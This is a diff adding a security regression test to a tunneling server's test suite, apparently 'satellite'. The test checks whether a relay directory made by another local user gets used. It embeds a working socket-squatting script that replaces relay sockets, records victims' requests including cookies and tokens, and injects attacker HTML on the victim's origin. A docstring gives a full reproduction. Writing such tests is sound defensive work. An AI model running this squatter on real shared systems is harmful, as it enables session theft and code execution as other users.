@@ -138,3 +138,125 @@ def test_a_killed_supervisor_leaves_no_temporary_relay_directory(certs, tmp_path
         server.stop()
         for path in made:
             subprocess.run(["rm", "-rf", str(path)], check=False)
+
+
+# F2: the relay directory is used whoever owns it: a local user who made it serves other sessions' pages --------
+
+SQUATTER = r'''
+import os, socket, sys, threading, time
+relays, seen_path, until = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
+mine = {}
+
+def answer(listener):
+    while True:
+        try:
+            conn, _ = listener.accept()
+        except OSError:
+            return
+        conn.settimeout(5)
+        try:
+            head = b""
+            while b"\r\n\r\n" not in head and len(head) < 65536:
+                data = conn.recv(65536)
+                if not data:
+                    break
+                head += data
+            with open(seen_path, "ab") as seen:
+                seen.write(head + b"\n----\n")
+            body = b"<script>/* nobody's page, on the victim's origin */</script>ATTACKER\n"
+            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s"
+                         % (len(body), body))
+        except OSError:
+            pass
+        finally:
+            conn.close()
+
+while time.monotonic() < until:
+    for name in os.listdir(relays):
+        path = os.path.join(relays, name)
+        if not name.endswith(".sock") or name in mine:
+            continue
+        try:
+            os.unlink(path)              # satellite's socket: we own the directory, so we may remove it
+        except OSError:
+            continue
+        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        listener.bind(path)
+        os.chmod(path, 0o777)
+        listener.listen(64)
+        mine[name] = listener
+        threading.Thread(target=answer, args=(listener,), daemon=True).start()
+    time.sleep(0.02)
+'''
+
+
+def as_nobody(*command, **kwargs):
+    return subprocess.run(["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups", *command],
+                          capture_output=True, text=True, timeout=kwargs.pop("timeout", 30), **kwargs)
+
+
+@pytest.fixture
+def shared_dir():
+    """A directory every local user may create entries in (sticky, like /tmp): where `satellite serve` keeps its
+    database when run from such a directory with the default `db = satellite.db`, or a site's shared state dir."""
+    path = Path(tempfile.mkdtemp(prefix="rw-shared-", dir="/tmp"))
+    os.chmod(path, 0o1777)
+    yield path
+    subprocess.run(["rm", "-rf", str(path)], check=False)
+
+
+def test_a_relay_directory_made_by_another_local_user_is_not_used(certs, shared_dir, new_app):
+    """Local unprivileged user (nobody) + a user with a valid link. The database is in a directory other users may
+    create names in (a sticky /tmp-like directory; e.g. `satellite serve --workers 2` with the default
+    `db = satellite.db` started in /tmp). Before satellite starts, nobody runs `mkdir -m 0777 satellite.tunnels`
+    there. relay_directory() only does makedirs(exist_ok=True) + chmod(0700): it never checks the owner. As root
+    the chmod succeeds and satellite uses nobody's directory (still owned by nobody, who keeps rwx on it); as any
+    other user the chmod raises PermissionError and `serve` dies with a traceback (a denial of service).
+    nobody then replaces each tunnel's relay socket (<sha256(alias)[:16]>.sock) with one of its own: every
+    request for a tunneled session that lands on a worker other than the tunnel's goes to nobody, who reads the
+    victim's request (path, app cookies, bodies; and the session token itself when the browser or client sent it
+    as 'Authorization: token ...', which satellite passes on: the whole session from anywhere) and answers it on
+    the victim's origin (any script it likes,
+    e.g. one that drives the victim's Jupyter with the victim's own cookie: code execution as the victim).
+    Repro: install -d -m 1777 /srv/shared; (as nobody) mkdir -m 0777 /srv/shared/satellite.tunnels;
+    satellite serve --workers 2 --db /srv/shared/satellite.db ...; a job attaches its tunnel; nobody runs the
+    squatter loop above; the victim's browser gets 'ATTACKER' for about half its requests."""
+    made = as_nobody("mkdir", "-m", "0777", str(shared_dir / "satellite.tunnels"))
+    assert made.returncode == 0, made.stderr
+    (shared_dir / "squatter.py").write_text(SQUATTER)
+    os.chmod(shared_dir / "squatter.py", 0o644)
+    seen = shared_dir / "seen.txt"
+    server = start(certs, shared_dir / "sat", 2, "--db", str(shared_dir / "satellite.db"))
+    squatter = None
+    try:
+        wait_for_workers(server, 2)
+        app = new_app()
+        link = server.getlink()
+        attach_tunnel_here(server, link["key"], app)
+        relays = shared_dir / "satellite.tunnels"
+        wait_for(lambda: list(relays.glob("*.sock")), what="the relay socket")
+        squatter = subprocess.Popen(["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups",
+                                     "/usr/bin/python3", str(shared_dir / "squatter.py"), str(relays), str(seen), "40"],
+                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        host = session_host(link)
+        bodies = []
+        for _ in range(40):                        # the victim, with its valid token, on fresh connections
+            status, body = fresh_get(server, host, "/notebooks/secret.ipynb?x=1", token_header(link))
+            bodies.append(body)
+            if b"ATTACKER" in body:
+                break
+            time.sleep(0.05)
+        stolen = seen.read_text() if seen.exists() else ""
+        assert not any(b"ATTACKER" in body for body in bodies), (
+            f"nobody answered the victim's request on its session's origin; nobody saw: {stolen!r}; relay dir owner "
+            f"uid {relays.stat().st_uid}, mode {oct(relays.stat().st_mode & 0o7777)}")
+    finally:
+        if squatter is not None:
+            squatter.kill()          # our own child (setpriv execs python): its pid
+            squatter.wait(10)
+        server.stop()
+
+
+def attach_tunnel_here(server, key, app, attach=1):
+    from test_workers import attach_tunnel
+    return attach_tunnel(server, key, app, attach)
